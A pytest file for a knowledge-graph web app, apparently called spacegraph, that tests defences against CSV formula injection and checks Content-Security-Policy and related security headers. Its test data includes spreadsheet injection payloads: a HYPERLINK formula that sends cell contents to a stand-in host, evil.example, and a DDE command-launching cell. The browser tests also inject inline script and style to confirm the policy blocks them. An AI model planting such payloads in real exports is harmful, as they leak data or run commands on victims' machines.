"""Formula-like CSV cells and the browser-facing security headers (issue 13, "Hardening").

- `export --format csv` and `query --format csv` put a single quote before a cell that a spreadsheet would run as a
  formula (=, +, -, @, tab, CR first; OWASP, "CSV Injection"); `/sparql` CSV and TSV stay exact (W3C formats).
- Every answer carries a Content-Security-Policy that allows only the site's own scripts and styles and no
  framing, X-Frame-Options, X-Content-Type-Options and Referrer-Policy; the pages run under it without a violation.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
import time
import urllib.parse
import urllib.request
from pathlib import Path

import networkx as nx
import pytest
from click.testing import CliRunner

from spacegraph.analysis.exports import export
from spacegraph.cli import cli
from spacegraph.query import run_query, spreadsheet_cell
from spacegraph.store.oxigraph import OxigraphStore
from spacegraph.web import create_app
from spacegraph.web.headers import NODE_MODULES, YASGUI_STYLES

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1"]
SAFE = ["plain", "-5", "+1.5e3", "0", "a=b", ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_cell_is_quoted(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_text_and_plain_numbers_are_left_as_they_are(text):
    assert spreadsheet_cell(text) == text


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_export_csv_neutralises_formula_like_names(tmp_path: Path):
    graph = nx.Graph()
    for i, name in enumerate(HOSTILE + SAFE):
        graph.add_node(f"n{i}", name=name, degree=-i)
    graph.add_node("=cmd|' /C calc'!A0", name="id is hostile")
    graph.add_edge("n0", "n1", weight=2, events={"e": {"name": "@evil", "date": "2020-05-01"}})
    export(graph, "csv", tmp_path)
    nodes = read_csv((tmp_path / "nodes.csv").read_bytes().decode("utf-8"))
    header, rows = nodes[0], nodes[1:]
    names = [row[header.index("Label")] for row in rows]
    assert names[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert names[len(HOSTILE) : len(HOSTILE) + len(SAFE)] == SAFE
    assert [row[header.index("degree")] for row in rows][:3] == ["0", "-1", "-2"]  # numbers stay numbers
    assert rows[-1][header.index("Id")] == "'=cmd|' /C calc'!A0"
    edges = read_csv((tmp_path / "edges.csv").read_bytes().decode("utf-8"))
    assert edges[1][edges[0].index("event_names")] == "'@evil"
    for row in rows + edges:  # and no cell would be run as a formula
        assert all(spreadsheet_cell(cell) == cell for cell in row)


VALUES = " ".join('"' + t.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'
                  for t in HOSTILE + SAFE)  # fmt: skip
SELECT = f"SELECT ?x ?i WHERE {{ VALUES ?x {{ {VALUES} }} BIND(-7 AS ?i) }}"


def test_query_csv_neutralises_formula_like_cells():
    with OxigraphStore() as store:
        rows = read_csv(run_query(store, SELECT, "csv"))
    assert rows[0] == ["x", "i"]
    assert [row[0] for row in rows[1:]] == ["'" + t for t in HOSTILE] + SAFE
    assert {row[1] for row in rows[1:]} == {"-7"}


def test_the_query_command_writes_neutralised_csv(built_settings):
    result = CliRunner().invoke(
        cli,
        ["--store", str(built_settings.store), "query", 'SELECT ?x WHERE { VALUES ?x { "=1+1" } }', "--format", "csv"],
    )
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[:2] == ["x", "'=1+1"]


@pytest.fixture(scope="module")
def app(built_settings):
    app = create_app({"SETTINGS": built_settings, "TESTING": True})
    yield app
    app.extensions["sparql"].stop()


def test_sparql_csv_and_tsv_stay_exact(app):
    """The W3C result formats carry the data as it is (README, "CSV and TSV are exact")."""
    client = app.test_client()
    query = 'SELECT ?x WHERE { VALUES ?x { "=1+1" "@a" } }'
    csv_body = client.get("/sparql", query_string={"query": query, "format": "csv"}).get_data()
    assert csv_body == b"x\r\n=1+1\r\n@a\r\n"
    tsv_body = client.get("/sparql", query_string={"query": query, "format": "tsv"}).get_data()
    assert tsv_body == b'?x\n"=1+1"\n"@a"\n'


ROUTES = ["/", "/sparql", "/sparql?query=ASK%20%7B%7D", "/network", "/plan", "/id/person/jeffrey-manber",
          "/id/person/jeffrey-manber.ttl", "/index.json", "/static/spacegraph.css", "/vendor/yasgui.min.js",
          "/no/such/page", "/favicon.ico"]  # fmt: skip


def check_headers(headers) -> None:
    policy = {d.split()[0]: d.split()[1:] for d in headers["Content-Security-Policy"].split("; ")}
    assert policy["default-src"] == ["'self'"]
    assert policy["script-src"] == ["'self'"]
    assert policy["style-src"] == ["'self'", *YASGUI_STYLES]  # and YASGUI's two fixed <style> elements, by hash
    assert policy["frame-ancestors"] == ["'none'"] and policy["object-src"] == ["'none'"]
    assert not any("unsafe" in source for sources in policy.values() for source in sources)
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"


def test_the_allowed_style_hashes_are_those_of_the_vendored_yasgui():
    """A new YASGUI with other <style> elements fails here (and in the browser test below), not silently."""
    script = (NODE_MODULES / "@zazuko" / "yasgui" / "build" / "yasgui.min.js").read_text(encoding="utf-8")
    resizer = re.search(r"createStyle\(a,`( \.grip-resizable\{[^`]*)`\)", script)
    assert resizer and "dragCursor:`col-resize`" in script and "`*{cursor:`+n.opt.dragCursor+`!important}`" in script
    texts = [resizer.group(1), "*{cursor:col-resize!important}"]
    hashes = [f"'sha256-{base64.b64encode(hashlib.sha256(t.encode()).digest()).decode()}'" for t in texts]
    assert hashes == list(YASGUI_STYLES)


@pytest.mark.parametrize("route", ROUTES)
def test_every_answer_carries_the_security_headers(app, route):
    response = app.test_client().get(route)
    assert response.status_code in (200, 204, 404)
    check_headers(response.headers)


def test_the_served_app_sends_them_too(live_server):
    with urllib.request.urlopen(live_server + "/sparql?" + urllib.parse.urlencode({"query": "ASK {}"})) as response:
        check_headers(response.headers)


VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation",
  e => window.__violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
"""


def open_page(browser, url: str):
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda m: errors.append(m.text) if "Content Security Policy" in m.text else None)
    page.add_init_script(VIOLATIONS)
    page.goto(url)
    return page, errors


def test_the_pages_run_under_the_policy_without_a_violation(browser, live_server):
    page, errors = open_page(browser, live_server + "/sparql")
    page.get_by_role("button", name="Who spoke at the 2020 Fuzhou workshop").click()
    page.locator(".yasqe_queryButton").click()
    page.get_by_text("9 results").wait_for(timeout=15_000)
    page.locator(".yasqe .CodeMirror").click()  # the editor's own widgets (completion, tooltips) come up
    page.keyboard.type(" ?")
    page.wait_for_timeout(300)
    assert page.evaluate("window.__violations") == [] and errors == []
    page.close()

    page, errors = open_page(browser, live_server + "/network")
    deadline = time.monotonic() + 60  # polled from here: wait_for_function evaluates a string, which the policy forbids
    while not page.evaluate("!!(window.spacegraphNetwork && window.spacegraphNetwork.ready)"):
        assert time.monotonic() < deadline, "the network view did not get ready"
        page.wait_for_timeout(200)
    assert page.evaluate("window.spacegraphNetwork.error") is None
    assert page.evaluate("window.spacegraphNetwork.graph.order") >= 14  # the people of the real data
    assert page.evaluate("getComputedStyle(document.getElementById('graph')).position") == "relative"
    assert page.evaluate("window.__violations") == [] and errors == []
    page.close()

    page, errors = open_page(browser, live_server + "/plan")
    grows = page.locator(".seg[data-grow]").evaluate_all("s => s.map(e => [e.dataset.grow, e.style.flexGrow])")
    assert grows and all(grow == flex for grow, flex in grows)  # the bars' widths, set by plan.js
    assert page.evaluate("window.__violations") == [] and errors == []
    page.close()

    page, errors = open_page(browser, live_server + "/id/person/jeffrey-manber")
    assert page.evaluate("window.__violations") == [] and errors == []
    page.close()


def test_the_policy_blocks_injected_inline_script_and_style(browser, live_server):
    page, _ = open_page(browser, live_server + "/")
    page.evaluate("""() => {
        window.__ran = false;
        const script = document.createElement("script");
        script.textContent = "window.__ran = true";
        document.body.append(script);
        const style = document.createElement("style");
        style.textContent = "body { display: none }";
        document.head.append(style);
    }""")
    page.wait_for_timeout(200)
    assert page.evaluate("window.__ran") is False
    assert page.locator("body").is_visible()
    directives = " ".join(page.evaluate("window.__violations"))
    assert "script-src" in directives and "style-src" in directives
    page.close()


def test_the_editor_asks_no_other_site_while_it_completes(browser, live_server):
    """YASGUI would ask lov.linkeddata.es for class and property completions (the policy would then block it, a
    violation); here only its own prefixes and the query's variables complete, and every request the page makes
    goes to this server."""
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("console", lambda m: requests.append(m.text) if "Content Security Policy" in m.text else None)
    page.goto(live_server + "/sparql")
    page.locator(".yasqe .CodeMirror").click()
    page.keyboard.press("Control+A")
    page.keyboard.press("Delete")
    page.keyboard.type("PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>\n", delay=20)
    for text in ["SELECT * WHERE { ?s rdfs:lab", " ?o . ?s a rdfs:Cla"]:  # a property, then a class
        page.keyboard.type(text, delay=50)
        page.keyboard.press("Control+Space")
        page.wait_for_timeout(1000)
    page.close()
    assert any(url.endswith("/vendor/yasgui.min.js") for url in requests)  # the listener saw the page's requests
    assert all(url.startswith(live_server) for url in requests), [u for u in requests if not u.startswith(live_server)]
